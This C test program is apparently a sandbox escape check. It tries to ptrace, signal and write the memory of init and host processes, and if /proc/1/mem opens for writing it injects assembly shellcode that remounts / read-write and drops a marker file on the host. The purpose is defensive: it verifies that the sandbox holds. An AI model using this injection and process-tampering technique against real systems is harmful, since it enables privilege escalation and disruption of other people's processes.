// SPDX-License-Identifier: MIT
/*
 * Escape attempt 2: reach the supervisor or any process outside the sandbox.
 * Walks the getppid chain, lists the pids it can see, then for pid 1 (the
 * sandbox's init), every pid given in argv[2...] (host processes the test
 * started) and a range of guessed pids tries kill, ptrace(ATTACH/SEIZE),
 * /proc/<pid>/mem for writing and process_vm_writev; kill(-1, SIGKILL) last.
 *
 * The sandbox's init (pid 1) runs without the seccomp filter, as root of the
 * sandbox's user namespace. If /proc/1/mem opens for writing, the program
 * goes on to the real attack: it writes code at init's resume address (after
 * its wait4), makes init wake up by orphaning a grandchild, and that code
 * clears MOUNT_ATTR_RDONLY on / and creates argv[1]/init-escaped on the host.
 * The test checks on the host that the file does not exist. The program ends
 * with status 7, which fozzy must report as the program's.
 */
#include <dirent.h>
#include <fcntl.h>
#include <inttypes.h>
#include <signal.h>
#include <stdbool.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "escape.h"

/* Code for init: mount_setattr(/, clear RDONLY), write the marker, reap children, exit. */
extern const unsigned char inject_start[], inject_path[], inject_end[];
__asm__(".pushsection .rodata\n"
	".globl inject_start, inject_path, inject_end\n"
	"inject_start:\n"
	"	mov $442, %eax\n"		/* mount_setattr */
	"	mov $-100, %rdi\n"		/* AT_FDCWD */
	"	lea inject_root(%rip), %rsi\n"
	"	mov $0x8000, %edx\n"		/* AT_RECURSIVE */
	"	lea inject_attr(%rip), %r10\n"
	"	mov $32, %r8d\n"
	"	syscall\n"
	"	mov $442, %eax\n"		/* again, / alone: a read-only host mount below fails the recursive one */
	"	mov $-100, %rdi\n"
	"	lea inject_root(%rip), %rsi\n"
	"	xor %edx, %edx\n"
	"	lea inject_attr(%rip), %r10\n"
	"	mov $32, %r8d\n"
	"	syscall\n"
	"	mov $2, %eax\n"			/* open */
	"	lea inject_path(%rip), %rdi\n"
	"	mov $0x241, %esi\n"		/* O_WRONLY|O_CREAT|O_TRUNC */
	"	mov $0x1a4, %edx\n"		/* 0644 */
	"	syscall\n"
	"	mov %rax, %rdi\n"
	"	mov $1, %eax\n"			/* write */
	"	lea inject_msg(%rip), %rsi\n"
	"	mov $(inject_msg_end - inject_msg), %edx\n"
	"	syscall\n"
	"1:	mov $61, %eax\n"		/* wait4(-1, NULL, __WALL, NULL) until ECHILD */
	"	mov $-1, %rdi\n"
	"	xor %esi, %esi\n"
	"	mov $0x40000000, %edx\n"
	"	xor %r10d, %r10d\n"
	"	syscall\n"
	"	cmp $-10, %rax\n"
	"	jne 1b\n"
	"	mov $231, %eax\n"		/* exit_group(0) */
	"	xor %edi, %edi\n"
	"	syscall\n"
	"inject_root: .asciz \"/\"\n"
	"inject_msg: .ascii \"written by the sandbox init, on the program's orders\\n\"\n"
	"inject_msg_end:\n"
	"	.balign 8\n"
	"inject_attr: .quad 0, 1, 0, 0\n"	/* attr_clr = MOUNT_ATTR_RDONLY */
	"inject_path: .space 512\n"
	"inject_end:\n"
	".popsection\n");

static void ppid_chain(void)
{
	char line[256];
	FILE *f;
	long pp = -1;

	printf("getpid %d getppid %d", (int)getpid(), (int)getppid());
	f = fopen("/proc/1/status", "r");
	while (f && fgets(line, sizeof(line), f))
		if (!strncmp(line, "PPid:", 5))
			pp = strtol(line + 5, NULL, 10);
	if (f)
		fclose(f);
	printf(", ppid of 1: %ld (0: nothing above is visible)\n", pp);
}

static void visible_pids(void)
{
	struct dirent *d;
	DIR *dir = opendir("/proc");

	printf("pids in /proc:");
	while (dir && (d = readdir(dir)))
		if (d->d_name[0] >= '0' && d->d_name[0] <= '9')
			printf(" %s", d->d_name);
	if (dir)
		closedir(dir);
	printf("\n");
}

static void hit(pid_t pid, bool loud)
{
	char path[64], byte = 0;
	struct iovec l = { &byte, 1 }, r = { (void *)0x400000, 1 };
	long fd, rc;

	rc = kill(pid, 0);
	if (!loud && rc < 0 && errno == ESRCH)
		return;
	attempt(rc, "kill(%d, 0)", (int)pid);
	attempt(ptrace(PTRACE_ATTACH, pid, NULL, NULL), "ptrace(PTRACE_ATTACH, %d)", (int)pid);
	attempt(ptrace(PTRACE_SEIZE, pid, NULL, NULL), "ptrace(PTRACE_SEIZE, %d)", (int)pid);
	attempt(process_vm_writev(pid, &l, 1, &r, 1, 0), "process_vm_writev(%d)", (int)pid);
	snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
	fd = attempt(open(path, O_RDWR), "open %s O_RDWR", path);
	if (fd >= 0)
		close((int)fd);
	if (pid != 1)
		attempt(kill(pid, SIGKILL), "kill(%d, SIGKILL)", (int)pid);
	else
		attempt(kill(pid, SIGTERM), "kill(%d, SIGTERM)", (int)pid);
}

/* The resume address of init's blocked syscall (last field of /proc/1/syscall). */
static uint64_t init_pc(void)
{
	char buf[512], *last;
	int fd = open("/proc/1/syscall", O_RDONLY);
	ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof(buf) - 1);

	if (fd >= 0)
		close(fd);
	if (n <= 0)
		return 0;
	buf[n] = 0;
	while (n > 0 && (buf[n - 1] == '\n' || buf[n - 1] == ' '))
		buf[--n] = 0;
	last = strrchr(buf, ' ');
	printf("/proc/1/syscall: %s\n", buf);
	return last ? strtoull(last + 1, NULL, 16) : 0;
}

static void attack_init(int memfd, const char *target)
{
	size_t len = (size_t)(inject_end - inject_start), off = (size_t)(inject_path - inject_start);
	unsigned char code[1024];
	struct stat st;
	char marker[512];
	uint64_t pc;
	pid_t c;
	long i;

	snprintf(marker, sizeof(marker), "%s/init-escaped", target);
	if (len > sizeof(code) || strlen(marker) >= 512)
		return;
	memcpy(code, inject_start, len);
	memcpy(code + off, marker, strlen(marker) + 1);
	pc = init_pc();
	if (!pc) {
		printf("inject into init: no resume address\n");
		return;
	}
	if (attempt(pwrite(memfd, code, len, (off_t)pc), "pwrite %zu bytes of code into init at 0x%" PRIx64, len, pc) < 0)
		return;
	/* A grandchild orphaned to init wakes init's wait4, which returns into the code. */
	c = fork();
	if (c == 0) {
		if (fork() == 0)
			_exit(0);
		_exit(0);
	}
	waitpid(c, NULL, 0);
	for (i = 0; i < 20000; i++)
		if (!stat(marker, &st))
			break;
	init_pc();
	if (!stat(marker, &st))
		printf("inject into init: HOLE: %s exists on the host\n", marker);
	else
		printf("inject into init: %s not created\n", marker);
}

int main(int argc, char **argv)
{
	long fd;
	int i;
	pid_t p;

	escape_init();
	if (argc < 2) {
		fprintf(stderr, "usage: supervisor TARGET_DIR [HOST_PID...]\n");
		return 2;
	}
	ppid_chain();
	visible_pids();
	attempt(ptrace(PTRACE_TRACEME, 0, NULL, NULL), "ptrace(PTRACE_TRACEME)");
	hit(1, true);
	for (i = 2; i < argc; i++)
		hit((pid_t)atoi(argv[i]), true);
	/* Guessed pids: nothing but the sandbox's own should answer. */
	for (p = 3; p < 400; p++)
		hit(p, false);
	printf("guessed pids 3..399: done\n");
	attempt(kill(-1, SIGKILL), "kill(-1, SIGKILL)");
	fd = attempt(open("/proc/1/mem", O_WRONLY), "open /proc/1/mem O_WRONLY");
	if (fd >= 0) {
		attack_init((int)fd, argv[1]);
		close((int)fd);
	}
	printf("survived\n");
	return 7;
}
